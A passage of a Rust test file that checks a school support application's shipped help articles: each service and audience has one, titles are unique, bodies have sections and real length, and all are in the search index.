    for (slug, _, _) in staffel::catalogue::services::DEFAULT_SERVICES {
        if *slug == "other" {
            continue;
        }
        let id = services.iter().find(|s| s.slug == *slug).map(|s| s.id).expect("service exists");
        assert!(articles.iter().any(|a| a.service_id == Some(id)), "no shipped article for service {slug}");
    }
    for audience in ["pupil", "teacher", "school_admin", "agent"] {
        assert!(
            articles.iter().any(|a| a.audience.split(',').any(|x| x == audience)),
            "no shipped article for {audience}"
        );
    }
    // Titles are unique, and every article is in German with sections.
    let titles: BTreeSet<&str> = articles.iter().map(|a| a.title.as_str()).collect();
    assert_eq!(titles.len(), articles.len());
    for a in &articles {
        assert!(a.body.contains("\n## "), "{} has sections", a.slug);
        assert!(a.body.len() > 800, "{} is a real article", a.slug);
    }
    // And they are all in the search index.
    assert_eq!(app.engine().doc_count().await.unwrap() as usize, on_disk.len());
}

#[rocket::async_test]
async fn the_shipped_articles_cover_every_service() {
    on_each_backend!(the_shipped_articles_import_cleanly);
}
